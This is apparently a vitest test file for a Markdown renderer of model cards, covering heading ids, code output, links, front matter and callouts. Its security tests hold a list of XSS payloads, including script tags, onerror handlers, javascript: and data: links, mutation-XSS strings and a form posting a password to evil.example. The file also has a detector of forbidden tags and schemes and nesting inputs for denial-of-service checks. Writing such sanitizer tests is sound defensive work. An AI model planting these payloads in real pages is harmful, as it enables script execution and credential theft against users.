import fc from "fast-check";
import { fromHtml } from "hast-util-from-html";
import { visit } from "unist-util-visit";
import { describe, expect, test } from "vitest";
import { renderMarkdown } from "./markdown.ts";
import { slug } from "../heading-ids/slug.ts";

/** The attack surface of a page, read back by a standards-conforming HTML parser. */
function dangers(html: string): string[] {
  const found: string[] = [];
  visit(fromHtml(html, { fragment: true }), "element", (node) => {
    const forbidden = [
      "script",
      "style",
      "iframe",
      "object",
      "embed",
      "form",
      "svg",
      "link",
      "meta",
      "base",
      "template",
      "textarea",
      "select",
      "button",
      "video",
      "audio",
    ];
    if (forbidden.includes(node.tagName)) found.push(`<${node.tagName}>`);
    for (const [name, value] of Object.entries(node.properties)) {
      if (/^on/i.test(name) || ["style", "srcDoc", "formAction", "action", "autoFocus"].includes(name)) {
        found.push(`${node.tagName} ${name}`);
      }
      if (["href", "src", "cite", "longDesc", "srcSet", "poster"].includes(name)) {
        const scheme = /^[\s\u0000-\u001F]*([a-z][a-z0-9+.-]*):/i.exec(String(value))?.[1]?.toLowerCase();
        if (scheme && !["http", "https", "mailto"].includes(scheme)) found.push(`${name}=${scheme}:`);
      }
    }
  });
  return found;
}

const PAYLOADS = [
  "<script>alert(1)</script>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<img src=x onerror=alert(1)>",
  "<svg onload=alert(1)><script>alert(1)</script></svg>",
  "<svg><style><img src=x onerror=alert(1)></style></svg>",
  "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
  "<a href='javascript:alert(1)'>x</a>",
  "<a href=' &#1; javascript:alert(1)'>x</a>",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "![x](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)",
  "![x](vbscript:x)",
  "<iframe src='javascript:alert(1)'></iframe>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<form action='https://evil.example'><input name=password><button>go</button></form>",
  "<input type=image src=x onerror=alert(1)>",
  "<style>body{display:none}</style><p style='position:fixed;inset:0'>x</p>",
  "<object data='javascript:alert(1)'></object><embed src='javascript:alert(1)'>",
  "<base href='https://evil.example/'><meta http-equiv=refresh content='0;url=https://evil.example'>",
  "<details open ontoggle=alert(1)>x</details>",
  "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
  "<template><script>alert(1)</script></template><noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
  "<link rel=stylesheet href='https://evil.example/x.css'>",
  "<a href='https://ok.example' target=_blank ping='https://evil.example'>x</a>",
  "```js\n</code></pre><script>alert(1)</script>\n```",
  '```"><img src=x onerror=alert(1)>\nx\n```',
  '# <img src=x onerror=alert(1)> [[x"onclick=alert(1)]]',
  "$$\\href{javascript:alert(1)}{x} \\includegraphics{javascript:x} \\htmlStyle{color:red}{x}$$",
  "> [!NOTE]\n> <img src=x onerror=alert(1)>",
  "<div id=theme-toggle name=__proto__>x</div>",
  "[ref]: javascript:alert(1)\n\n[ref]",
  "<p is='x-y' contenteditable autofocus onfocus=alert(1) tabindex=1>x</p>",
];

describe("a hostile model card", () => {
  test.each(PAYLOADS)("renders inert: %s", (payload) => {
    for (const source of [
      payload,
      `text\n\n${payload}\n\ntext`,
      `| a |\n|---|\n| ${payload.replaceAll("\n", " ")} |`,
    ]) {
      expect(dangers(renderMarkdown(source, { untrusted: true, idPrefix: "card-" }).html)).toEqual([]);
    }
  });

  test("stays inert for any mixture of payloads and Markdown", () => {
    const piece = fc.oneof(
      fc.constantFrom(
        ...PAYLOADS,
        "\n\n",
        "> ",
        "- ",
        "**",
        "`",
        "|",
        "<",
        ">",
        '"',
        "'",
        "[",
        "](",
        ")",
        "<!--",
        "-->",
        "<![CDATA[",
      ),
      fc.string({ maxLength: 12 }),
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 12 }), (pieces) => {
        expect(dangers(renderMarkdown(pieces.join(""), { untrusted: true, idPrefix: "card-" }).html)).toEqual([]);
      }),
      { numRuns: 400 },
    );
  });

  test("cannot take an id of the page around it", () => {
    const { html } = renderMarkdown("# Use\n\n<a id=use></a><p id=main>x</p>\n\n[up](#use)", {
      idPrefix: "card-",
    });
    const ids = [...html.matchAll(/ id="([^"]*)"/g)].map((match) => match[1]);
    expect(ids.length).toBeGreaterThan(0);
    expect(ids.every((id) => id?.startsWith("card-"))).toBe(true);
    expect(html).toContain('href="#card-use"');
  });

  test.each([
    ["quotes", ">".repeat(100_000)],
    ["lists", "- ".repeat(50_000)],
    ["brackets", "[".repeat(100_000)],
    ["emphasis", "*a ".repeat(50_000)],
    ["tags", "<div>".repeat(50_000)],
    ["indented lists", Array.from({ length: 2_000 }, (_, depth) => `${" ".repeat(depth * 2)}- x`).join("\n")],
  ])("nested %s without end are answered in bounded time", (_name, source) => {
    const started = process.cpuUsage();
    expect(renderMarkdown(source).html.length).toBeGreaterThan(0);
    expect(process.cpuUsage(started).user / 1000).toBeLessThan(15_000);
  });
});

describe("headings", () => {
  test("of every level have an anchor link after the text, labeled, to # plus their id", () => {
    for (const level of [1, 2, 3, 4, 5, 6]) {
      const { html } = renderMarkdown(`${"#".repeat(level)} Load a model`);
      const tree = fromHtml(html, { fragment: true });
      const wrapper = tree.children[0];
      if (wrapper?.type !== "element") throw new Error("no wrapper");
      const [heading, link] = wrapper.children;
      if (heading?.type !== "element" || link?.type !== "element") throw new Error("no heading");
      expect(heading.tagName).toBe(`h${level}`);
      expect(heading.properties["id"]).toBe("load-a-model");
      expect(link.properties["href"]).toBe("#load-a-model");
      expect(html).toContain("Section titled “Load a model”");
    }
  });

  test("that repeat get numbered ids, in any script, never an empty one", () => {
    const { headings } = renderMarkdown("# Use\n# Use\n# 使用\n# ???\n# Привет, мир\n# 🚀 Go\n# ???");
    expect(headings.map((heading) => heading.id)).toEqual([
      "use",
      "use-1",
      "使用",
      "section",
      "привет-мир",
      "go",
      "section-1",
    ]);
  });

  test("come below the page's own heading without gaps, whatever levels an author used", () => {
    fc.assert(
      fc.property(
        fc.array(fc.integer({ min: 1, max: 6 }), { minLength: 1, maxLength: 12 }),
        fc.integer({ min: 1, max: 3 }),
        (levels, under) => {
          const { headings } = renderMarkdown(
            levels.map((level, index) => `${"#".repeat(level)} h${index}`).join("\n\n"),
            { under },
          );
          let previous = under;
          for (const { level } of headings) {
            expect(level).toBeGreaterThan(under);
            expect(level).toBeLessThanOrEqual(previous + 1);
            previous = level;
          }
        },
      ),
    );
  });

  test("keep an explicit id and lose its notation", () => {
    const { headings, html } = renderMarkdown("# First [[begin]]\n## Second {#then}");
    expect(headings.map(({ id, text }) => [id, text])).toEqual([
      ["begin", "First"],
      ["then", "Second"],
    ]);
    expect(html).not.toContain("[[");
  });

  test.each([
    ["## Ports {: #ports }", "ports", "Ports"],
    ["## Ports ## {: #the-ports .wide }", "the-ports", "Ports"],
    ['## Ports { #ports data-note="two words" }', "ports", "Ports"],
    ["## Ports {: .wide }", "ports", "Ports"],
    ["## The `Port` {: #port }", "port", "The Port"],
    ["## Sets such as {a}", "sets-such-as-a", "Sets such as {a}"],
    ["## Blocks {: end}", "blocks--end", "Blocks {: end}"],
    ["## Paths {id}/{name}", "paths-idname", "Paths {id}/{name}"],
  ])("take attributes as Python-Markdown does, and nothing else: %s", (markdown, id, text) => {
    expect(renderMarkdown(markdown).headings).toEqual([{ level: 2, id, text }]);
  });

  test("of the first level in the midst of a text are no title of a page that has one", () => {
    const source = "Words by letter.\n\n# A\n\n## Axe\n\n# B";
    const page = renderMarkdown(source, { dropTitle: true, title: "All words", under: 1 });
    expect(page.title?.text).toBe("All words");
    expect(page.headings.map(({ level, text }) => [level, text])).toEqual([
      [2, "A"],
      [3, "Axe"],
      [2, "B"],
    ]);
    expect(renderMarkdown(source, { dropTitle: true }).title?.text).toBe("A");
    const below = "![](badge.svg) [中文](zh.md)\n\n# Real";
    expect(renderMarkdown(below, { dropTitle: true, title: "Other" }).title?.text).toBe("Real");
  });

  test("have unique ids on any page", () => {
    fc.assert(
      fc.property(fc.array(fc.string({ minLength: 1, maxLength: 10 })), (titles) => {
        const { headings } = renderMarkdown(titles.map((title) => `# ${title.replace(/\s/g, " ")}x`).join("\n\n"));
        expect(new Set(headings.map((heading) => heading.id)).size).toBe(headings.length);
      }),
    );
  });

  test("get the same id however their accents are typed", () => {
    expect(slug("Café")).toBe(slug("Cafe\u0301"));
  });
});

describe("code", () => {
  test("comes out letter for letter, whatever its language", () => {
    fc.assert(
      fc.property(
        fc.constantFrom("python", "js", "sh", "csharp", "json", "nope", ""),
        fc.string(),
        (language, body) => {
          const code = body.replace(/[`\r\n\0~]/g, "").trimEnd();
          const { html } = renderMarkdown(`\`\`\`\`${language}\nx${code}\n\`\`\`\``);
          const tree = fromHtml(html, { fragment: true });
          let text = "";
          visit(tree, "text", (node) => void (text += node.value));
          expect(text).toBe(`x${code}`);
        },
      ),
    );
  });

  test("is colored with classes, not inline styles", () => {
    const { html } = renderMarkdown("```python\nimport os\n```");
    expect(html).toContain('class="tok-keyword"');
    expect(html).not.toContain("style=");
  });
});

test("relative addresses go where the page says", () => {
  const { html } = renderMarkdown("[a](docs/x.md) ![b](img/y.png) [c](https://z.example) [d](#e)", {
    resolveAddress: (address, kind) => (kind === "image" ? `https://files.example/${address}` : undefined),
  });
  expect(html).toContain('src="https://files.example/img/y.png"');
  expect(html).toContain("<a>a</a>");
  expect(html).toContain('href="https://z.example"');
  expect(html).toContain('href="#e"');
});

test("front matter is not shown", () => {
  expect(renderMarkdown("---\nlicense: mit\n---\ntext").html).toBe("<p>text</p>");
});

test("a callout is a labeled aside", () => {
  const { html } = renderMarkdown("> [!WARNING]\n> Mind the gap");
  expect(html).toContain('<aside class="vt-callout" data-kind="warning" aria-label="Warning">');
  expect(html).not.toContain("[!WARNING]");
});
